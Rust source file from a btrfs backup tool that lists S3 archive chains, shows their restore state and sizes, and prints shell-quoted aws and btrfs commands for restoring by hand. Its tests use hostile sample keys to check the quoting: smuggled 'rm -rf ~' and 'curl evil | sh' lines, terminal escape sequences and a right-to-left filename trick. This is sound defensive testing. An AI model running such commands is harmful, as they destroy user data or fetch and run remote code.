//! Archives as chains: what can be restored, from when, how large, and how it is done by hand; and
//! what runs left. For people, and for scripts in `json`.

use super::human;
use crate::archive::ArchiveState;
use crate::s3::S3Options;
use crate::snapshot::shown;
use crate::store::archive::index::Archive;
use crate::store::archive::manifest::{self, Manifest};
use crate::text::counted;
use std::collections::HashMap;

/// An archive, and what else is known of it.
#[derive(Debug)]
pub struct Shown<'a> {
    /// `s3://bucket/prefix/`.
    pub location: String,
    /// Its bucket.
    pub bucket: String,
    /// What there is.
    pub archive: &'a Archive,
    /// Whether the chunks of each backup can be read, by the key of its manifest.
    pub states: HashMap<String, ArchiveState>,
    /// How the bucket is reached, if commands are wanted.
    pub reach: Option<&'a S3Options>,
}

impl Shown<'_> {
    /// The archive as a table.
    pub fn text(&self) -> String {
        let archive = self.archive;
        let (name, count) = (shown(&archive.name), archive.manifests.len());
        let count = counted(count, "backup");
        let mut text = format!("{name}: {count} in {}\n", self.location);
        for (key, manifest) in archive.in_order() {
            text += &self.row(key, manifest);
            if let Some(command) = self.command(manifest) {
                text += &format!("    {command}\n");
            }
        }
        let broken = archive.broken.iter();
        let unread = broken.filter(|(key, _)| !archive.manifests.contains_key(*key));
        for (key, why) in unread {
            text += &format!("  broken       {}: {why}\n", shown(key));
        }
        for (name, leftover) in &archive.leftovers {
            let size = human(leftover.bytes);
            text += &format!(
                "  unfinished   {}: {size} left by a run that did not end\n",
                shown(name)
            );
        }
        for key in &archive.strays {
            text += &format!("  stray        {} belongs to no backup\n", shown(key));
        }
        text
    }

    /// `  newest       20261121T020000Z  incremental     1.2 GiB in 3  DEEP_ARCHIVE, frozen  NAME
    /// (on 20261114T020000Z, 4.0 GiB in all)`
    fn row(&self, key: &str, manifest: &Manifest) -> String {
        let state = self.state(key);
        let (size, chunks) = (human(manifest.total_bytes), manifest.chunks.len());
        let fields = [
            &manifest.created_at,
            &manifest.kind,
            &manifest.s3.storage_class,
            &manifest.snapshot.name,
        ];
        let [made, kind, class, name] = fields.map(shown);
        let thawing = self.thawing(key).map(|word| format!(", {word}"));
        let thawing = thawing.unwrap_or_default();
        let remark = match (self.archive.broken.get(key), &manifest.parent_manifest) {
            (Some(why), _) => format!(" ({why})"),
            (None, Some(parent)) => self.builds(key, parent),
            (None, None) => String::new(),
        };
        format!(
            "  {state:<11}  {made}  {kind:<11}  {size:>10} in {chunks}  {class}{thawing}  {name}{remark}\n"
        )
    }

    fn builds(&self, key: &str, parent: &str) -> String {
        let made = self.archive.manifests.get(parent);
        let made = made.map_or("-", |parent| &parent.created_at);
        let all = human(self.chain_bytes(key).unwrap_or(0));
        format!(" (on {}, {all} in all)", shown(made))
    }

    /// Whether it can be restored, and whether it is what the pointer names.
    pub(super) fn state(&self, key: &str) -> &'static str {
        match self.archive.broken.get(key) {
            Some(_) => "broken",
            None if self.archive.current.as_deref() == Some(key) => "newest",
            None => "restorable",
        }
    }

    /// Bytes that it takes to restore a backup; `None` if its chain is broken.
    pub(super) fn chain_bytes(&self, key: &str) -> Option<u64> {
        let all = &self.archive.manifests;
        let chain = manifest::chain(all, key).ok()?;
        let bytes = chain.iter().filter_map(|link| all.get(*link));
        Some(bytes.map(|manifest| manifest.total_bytes).sum())
    }

    /// In a word; none for what can be read as always.
    pub(super) fn thawing(&self, key: &str) -> Option<&'static str> {
        match self.states.get(key)? {
            ArchiveState::Readable => None,
            ArchiveState::Frozen => Some("frozen"),
            ArchiveState::Thawing => Some("thawing"),
            ArchiveState::Thawed(_) => Some("thawed"),
        }
    }

    /// How a backup is received by hand, after those that it builds on.
    pub(super) fn command(&self, manifest: &Manifest) -> Option<String> {
        let reach = self.reach?;
        let mut aws = "aws".to_owned();
        if let Some(region) = &reach.region {
            aws += &format!(" --region {}", quoted(region));
        }
        if let Some(url) = &reach.endpoint_url {
            aws += &format!(" --endpoint-url {}", quoted(url));
        }
        let fetch = |key: &str| {
            let url = format!("s3://{}/{key}", self.bucket);
            format!("{aws} s3 cp {} -", quoted(&url))
        };
        let chunks = manifest.chunks.iter();
        let all: Vec<String> = chunks.map(|chunk| fetch(&chunk.key)).collect();
        Some(match &all[..] {
            [one] => format!("{one} | btrfs receive ."),
            _ => format!("{{ {}; }} | btrfs receive .", all.join(" && ")),
        })
    }
}

/// A word for the shell, and for the terminal that it is shown on and pasted into: what would do
/// something there is written as `$'...'` has it, which bash, zsh and ksh understand.
fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    // What is shown as something else has a character that does something.
    if shown(word) == word.replace('\\', "\\\\") {
        return format!("'{}'", word.replace('\'', "'\\''"));
    }
    let byte = |byte: u8| match byte {
        b'\'' | b'\\' => format!("\\{}", char::from(byte)),
        b' '..=b'~' => char::from(byte).to_string(),
        _ => format!("\\{byte:03o}"),
    };
    format!("$'{}'", word.bytes().map(byte).collect::<String>())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_for_the_shell() {
        assert_eq!(quoted("s3://b/k-1.bin"), "s3://b/k-1.bin");
        assert_eq!(quoted("a b"), "'a b'");
        assert_eq!(quoted("it's"), "'it'\\''s'");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("\u{fc}\\"), "'\u{fc}\\'");
    }

    /// ESC, newlines, the end of a bracketed paste, a control of eight bits, a mark that turns text
    /// around.
    #[test]
    fn pasted_keys_do_no_harm() {
        for key in [
            "k\u{1b}]0;owned\u{7}\u{1b}[2J",
            "x\nrm -rf ~\n",
            "x\u{1b}[201~\ncurl evil | sh\n",
            "a\u{9b}31m'\\",
            "b\u{202e}gnp.exe",
            "\r\t\0".trim_end_matches('\0'),
        ] {
            let word = quoted(key);
            assert!(
                word.bytes().all(|byte| (b' '..=b'~').contains(&byte)),
                "{word}"
            );
            let echo = ["-c".to_owned(), format!("printf %s {word}")];
            let said = std::process::Command::new("bash")
                .args(echo)
                .output()
                .unwrap();
            assert_eq!(said.stdout, key.as_bytes(), "{word}");
        }
    }
}
